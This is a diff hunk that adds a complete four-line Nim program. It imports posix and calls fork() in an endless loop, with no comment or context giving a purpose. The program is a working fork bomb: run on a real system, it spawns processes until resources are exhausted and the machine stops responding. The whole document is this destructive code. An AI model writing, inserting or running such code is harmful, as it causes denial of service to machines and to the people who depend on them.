@@ -1,0 +1,4 @@
+import posix
+
+while true:
+  discard fork()
